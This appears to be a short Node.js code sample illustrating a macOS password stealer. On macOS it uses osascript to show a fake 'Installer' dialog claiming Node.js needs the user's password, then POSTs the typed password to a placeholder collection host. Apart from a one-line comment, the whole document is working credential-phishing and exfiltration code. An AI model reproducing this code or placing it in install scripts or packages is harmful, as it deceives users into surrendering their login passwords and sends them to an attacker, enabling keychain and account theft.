// A fake macOS prompt for the login password, sent away (how macOS stealers unlock the keychain).
const { execSync } = require("child_process");
if (process.platform === "darwin") {
  const pw = execSync(`osascript -e 'display dialog "Node.js needs your password to finish installing." with title "Installer" default answer "" with icon caution with hidden answer' -e 'text returned of result'`).toString().trim();
  fetch("https://collect.example.invalid/p", { method: "POST", body: pw });
}
